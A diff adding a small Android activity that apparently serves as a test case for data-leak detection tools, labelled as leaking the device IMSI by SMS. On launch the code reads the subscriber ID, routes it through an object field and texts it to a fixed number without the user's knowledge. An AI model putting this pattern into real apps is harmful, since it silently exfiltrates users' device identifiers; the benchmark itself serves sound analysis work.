@@ -1,0 +1,28 @@
+// about       An object has two fields; the one that holds the value is sent.
+// leak        DEV_IMSI sms
+package cn.example.flow;
+
+import android.app.Activity;
+import android.content.Context;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+
+public class MainActivity extends Activity {
+  static class User {
+    String nick = "guest";
+    String number = "none";
+  }
+
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
+    User user = new User();
+    user.number = phone.getSubscriberId();
+    user.nick = "visitor";
+    // The field with the value.
+    String text = user.number;
+    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
+  }
+}
